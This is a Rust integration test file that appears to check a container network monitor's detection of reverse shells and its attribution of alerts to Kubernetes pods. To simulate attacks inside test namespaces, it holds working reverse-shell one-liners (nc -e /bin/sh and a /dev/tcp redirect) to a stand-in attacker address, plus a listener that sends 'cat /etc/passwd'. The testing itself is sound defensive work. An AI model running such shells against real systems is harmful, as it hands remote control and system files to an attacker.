//! `vethwatch node` over namespaces made here and pods of a real containerd: the right pod, in time,
//! and the same when it is replayed.
#![allow(clippy::disallowed_methods, clippy::unwrap_used, missing_docs)]

#[path = "support/containerd.rs"]
mod containerd;

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use containerd::{Containerd, Pod, within};
use serde_json::Value;

const VETHWATCH: &str = env!("CARGO_BIN_EXE_vethwatch");
/// Where the attacker listens, in the namespace that plays the host: no container's interface.
const ATTACKER: &str = "203.0.113.66";
static HOSTS: AtomicU32 = AtomicU32::new(0);

/// A namespace that plays a node's, and programs in it. Gone with this value.
struct Host {
    name: String,
    folder: tempfile::TempDir,
    children: Vec<Child>,
    others: Vec<String>,
}

fn ip(arguments: &str) {
    let done = Command::new("ip").args(arguments.split(' ')).output().unwrap();
    assert!(done.status.success(), "ip {arguments}: {}", String::from_utf8_lossy(&done.stderr));
}

impl Host {
    fn new() -> Self {
        let number = HOSTS.fetch_add(1, Ordering::Relaxed);
        let name = format!("vethwatch-n{}-{number}", std::process::id());
        ip(&format!("netns add {name}"));
        ip(&format!("-n {name} link set lo up"));
        ip(&format!("-n {name} addr add {ATTACKER}/32 dev lo"));
        let folder = tempfile::tempdir().unwrap();
        Self { name, folder, children: Vec::new(), others: Vec::new() }
    }

    /// A namespace with an interface whose other end is the host's.
    fn container(&mut self, number: u8) -> String {
        let Self { name: host, .. } = self;
        let name = format!("{host}-c{number}");
        ip(&format!("netns add {name}"));
        ip(&format!("link add eth0 netns {name} type veth peer name c{number} netns {host}"));
        ip(&format!("-n {name} addr add 10.213.{number}.2/24 dev eth0"));
        ip(&format!("-n {name} link set eth0 up"));
        ip(&format!("-n {host} addr add 10.213.{number}.1/24 dev c{number}"));
        ip(&format!("-n {host} link set c{number} up"));
        ip(&format!("-n {name} route add default via 10.213.{number}.1"));
        self.others.push(name.clone());
        name
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// Starts a program in a namespace. What it says on standard error is kept.
    fn start(&mut self, namespace: &str, program: &str, arguments: &[&str]) -> usize {
        let log = File::create(self.path(&format!("log{}", self.children.len()))).unwrap();
        let child = within(namespace, program)
            .args(arguments)
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()
            .unwrap();
        self.children.push(child);
        self.children.len() - 1
    }

    fn log(&self, program: usize) -> String {
        fs::read_to_string(self.path(&format!("log{program}"))).unwrap_or_default()
    }

    fn hears(&self, program: usize, text: &str) {
        until(Duration::from_secs(20), || self.log(program).contains(text));
    }

    fn watch(&mut self, records: &Path, more: &[&str]) -> usize {
        let records = records.to_str().unwrap();
        let arguments = [&["node", "--format", "eve", "--output", records][..], more].concat();
        let watcher = self.start(&self.name.clone(), VETHWATCH, &arguments);
        self.hears(watcher, "watching ");
        watcher
    }

    /// Listens as an attacker does, and returns what types.
    fn listen(&mut self) -> usize {
        let listener = self.start(&self.name.clone(), "python3", &["-c", LISTEN]);
        self.hears(listener, "listening");
        listener
    }

    fn serve(&mut self) {
        let server = self.start(&self.name.clone(), "python3", &["-c", SERVE]);
        self.hears(server, "listening");
    }

    /// Ends the watcher as a kubelet does, and tells how long it took.
    fn end(&mut self, watcher: usize) -> Duration {
        let begin = Instant::now();
        // `nsenter` becomes the program that it runs, so the number is the program's.
        let id = self.children[watcher].id().to_string();
        assert!(Command::new("sh").args(["-c", "kill -TERM $0", &id]).status().unwrap().success());
        let code = self.children[watcher].wait().unwrap().code();
        assert_eq!(code, Some(0), "{}", self.log(watcher));
        begin.elapsed()
    }
}

impl Drop for Host {
    fn drop(&mut self) {
        for child in &mut self.children {
            let _ = child.kill();
            let _ = child.wait();
        }
        for name in self.others.iter().chain([&self.name]) {
            let _ = Command::new("ip").args(["netns", "del", name]).output();
        }
    }
}

/// Waits until it is so.
fn until(at_most: Duration, mut is_so: impl FnMut() -> bool) {
    let begin = Instant::now();
    while !is_so() {
        assert!(begin.elapsed() < at_most, "not within {at_most:?}");
        thread::sleep(Duration::from_millis(20));
    }
}

/// Listens, writes to the caller what is said on standard input, and to standard error what it says.
const LISTEN: &str = "import socket,sys,threading
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)
s.bind(('203.0.113.66',4444)); s.listen(); sys.stderr.write('listening\\n'); sys.stderr.flush()
c,_=s.accept(); sys.stderr.write('connected\\n'); sys.stderr.flush()
def hear():
    while (d:=c.recv(4096)): sys.stderr.write(d.decode(errors='replace')); sys.stderr.flush()
threading.Thread(target=hear,daemon=True).start()
for line in sys.stdin: c.sendall(line.encode())";

/// Serves one small page for a minute.
const SERVE: &str = "import http.server,sys,time
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.send_header('Content-Length','6'); self.end_headers()
        self.wfile.write(b'hello\\n')
    def log_message(self,*a): pass
s=http.server.HTTPServer(('0.0.0.0',8080),H); s.timeout=1
sys.stderr.write('listening\\n'); sys.stderr.flush()
end=time.time()+60
while time.time()<end: s.handle_request()";

/// Fetches a page so many times.
const FETCH: &str = "import urllib.request,sys
for _ in range(int(sys.argv[2])): urllib.request.urlopen(sys.argv[1]).read()";

fn of_kind(records: &Path, kind: &str) -> Vec<Value> {
    let text = fs::read_to_string(records).unwrap_or_default();
    let read = text.lines().filter_map(|line| serde_json::from_str::<Value>(line).ok());
    read.filter(|record| record["event_type"] == kind).collect()
}

fn alerts(records: &Path) -> Vec<Value> {
    of_kind(records, "alert")
}

/// What makes two runs' findings the same.
fn findings(alerts: &[Value]) -> BTreeSet<String> {
    let of = |alert: &Value, pointer: &str| alert.pointer(pointer).cloned().unwrap_or_default();
    alerts
        .iter()
        .map(|alert| {
            let parts = [
                "/vethwatch/alert_uid",
                "/vethwatch/rule",
                "/vethwatch/severity",
                "/src_ip",
                "/dest_ip",
            ];
            parts.map(|pointer| of(alert, pointer).to_string()).join(" ")
        })
        .collect()
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_shell_in_a_pod_bears_the_pods_name_and_its_neighbour_is_silent() {
    let mut host = Host::new();
    let Some(mut containerd) = Containerd::start(&host.name) else {
        eprintln!("skipped: containerd cannot be installed here");
        return;
    };
    let records = host.path("records.json");
    let socket = containerd.socket();
    let watcher = host.watch(&records, &["--cri-socket", socket.to_str().unwrap()]);
    host.serve();
    let listener = host.listen();

    let uid = |digit: u8| format!("8a9a5e5e-3e6f-4a57-8d8d-5f5c1c3f2b1{digit}");
    let (benign, attacked) = (uid(1), uid(2));
    let shop = |name, uid| Pod { name, namespace: "shop", uid, labels: &[], host_network: false };
    let neighbour = shop("api-0", &benign);
    let sandbox = containerd.run_pod(&neighbour);
    let ask =
        format!("while true; do wget -q -O /dev/null http://{ATTACKER}:8080/; sleep 0.3; done");
    containerd.run_container(&sandbox, &neighbour, "api", &["sh", "-c", &ask]);
    let pod = shop("web-0", &attacked);
    let sandbox = containerd.run_pod(&pod);
    // At once: before anyone can have told the pod's name.
    let shell = format!("nc {ATTACKER} 4444 -e /bin/sh; sleep 60");
    let app = containerd.run_container(&sandbox, &pod, "app", &["sh", "-c", &shell]);

    host.hears(listener, "connected");
    let mut typing = host.children[listener].stdin.take().unwrap();
    typing.write_all(b"id\n").unwrap();
    host.hears(listener, "uid=0");
    let answered = Instant::now();
    until(Duration::from_secs(2), || !alerts(&records).is_empty());
    eprintln!("told {:?} after the first command's answer", answered.elapsed());
    typing.write_all(b"cat /etc/passwd\nls /\n").unwrap();
    host.hears(listener, "root:x:0");
    thread::sleep(Duration::from_millis(500));
    assert!(host.end(watcher) < Duration::from_secs(2));

    let alerts = alerts(&records);
    for alert in &alerts {
        assert_eq!(alert["vethwatch"]["detector"], "reverse_shell", "{alert}");
        assert_eq!(alert["kubernetes"]["pod"], "web-0", "{alert}");
        assert_eq!(alert["kubernetes"]["namespace"], "shop", "{alert}");
        assert_eq!(alert["kubernetes"]["pod_uid"], attacked.as_str(), "{alert}");
        assert_eq!(alert["container"]["attribution"], "runtime", "{alert}");
        assert_eq!(alert["dest_ip"], ATTACKER, "{alert}");
    }
    // The first may know the pod by its sandbox alone; more is told under the same identifier.
    assert_eq!(alerts.last().unwrap()["container"]["id"], app.as_str(), "{alerts:?}");
    assert_eq!(findings(&alerts).len(), 1, "{alerts:?}");
    let neighbours = of_kind(&records, "flow");
    let neighbours = neighbours.iter().filter(|flow| flow["kubernetes"]["pod"] == "api-0").count();
    assert!(neighbours > 3, "{neighbours} flows of the neighbour");
    let seen = of_kind(&records, "coverage");
    assert!(seen.iter().any(|one| one["kubernetes"]["pod"] == "web-0"), "{seen:?}");
}

#[test]
#[ignore = "needs root and network namespaces"]
fn what_is_kept_replays_to_the_same_findings() {
    let mut host = Host::new();
    let (one, other) = (host.container(1), host.container(2));
    let (records, kept) = (host.path("records.json"), host.path("kept.pcapng"));
    let watcher = host.watch(&records, &["--write", kept.to_str().unwrap()]);
    host.serve();
    let listener = host.listen();
    let page = format!("http://{ATTACKER}:8080/");
    host.start(&other, "python3", &["-c", FETCH, &page, "6"]);
    let shell = format!("exec 3<>/dev/tcp/{ATTACKER}/4444; exec sh <&3 >&3 2>&3");
    host.start(&one, "bash", &["-c", &shell]);
    host.hears(listener, "connected");
    let mut typing = host.children[listener].stdin.take().unwrap();
    for command in ["id\n", "uname -a\n", "cat /etc/passwd\n"] {
        typing.write_all(command.as_bytes()).unwrap();
        thread::sleep(Duration::from_millis(400));
    }
    until(Duration::from_secs(3), || !alerts(&records).is_empty());
    drop(typing);
    thread::sleep(Duration::from_secs(1));
    host.end(watcher);

    let replayed = host.path("replayed.json");
    let status = Command::new(VETHWATCH)
        .args(["replay", "--no-progress", "--format", "eve", "--output"])
        .args([&replayed, &kept])
        .status()
        .unwrap();
    assert!(status.success());
    let (live, again) = (findings(&alerts(&records)), findings(&alerts(&replayed)));
    assert!(!live.is_empty());
    assert_eq!(live, again);
}

#[test]
#[ignore = "needs root and network namespaces"]
fn containers_that_live_a_moment_are_seen_and_forgotten() {
    let mut host = Host::new();
    let records = host.path("records.json");
    let watcher = host.watch(&records, &[]);
    host.serve();
    for number in 1..=20 {
        let name = host.container(number);
        let page = format!("http://10.213.{number}.1:8080/");
        let done = within(&name, "python3").args(["-c", FETCH, &page, "1"]).status();
        assert!(done.unwrap().success());
        ip(&format!("netns del {name}"));
    }
    thread::sleep(Duration::from_secs(2));
    host.end(watcher);
    let flows = of_kind(&records, "flow");
    let seen: BTreeSet<String> = flows
        .iter()
        .filter(|flow| flow["dest_port"] == 8080)
        .map(|flow| flow["container"]["ip"].to_string())
        .collect();
    assert_eq!(seen.len(), 20, "each from its first packet on: {seen:?}");
    let stats = of_kind(&records, "stats");
    assert_eq!(stats.last().unwrap()["vethwatch"]["counters"]["containers"], 0);
    assert!(alerts(&records).is_empty());
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_container_that_is_hidden_while_it_runs_is_a_finding() {
    let mut host = Host::new();
    let containers = [1, 2, 3].map(|number| host.container(number));
    let programs = containers.each_ref().map(|name| host.start(name, "sleep", &["60"]));
    let records = host.path("records.json");
    let watcher = host.watch(&records, &[]);
    let name = host.name.clone();
    ip(&format!("-n {name} link del c1"));
    ip(&format!("-n {name} link set c2 down"));
    host.children[programs[2]].kill().unwrap();
    host.children[programs[2]].wait().unwrap();
    ip(&format!("-n {name} link del c3"));
    let rule = |alert: &Value| {
        let text =
            |pointer: &str| alert.pointer(pointer).and_then(Value::as_str).unwrap_or_default();
        format!("{} {}", text("/in_iface"), text("/vethwatch/rule"))
    };
    let told = || alerts(&records).iter().map(rule).collect::<BTreeSet<String>>();
    until(Duration::from_secs(12), || told().len() >= 2);
    host.end(watcher);
    let expected = ["c1 blind.interface_gone", "c2 blind.interface_down"];
    assert_eq!(told(), BTreeSet::from(expected.map(str::to_owned)));
}
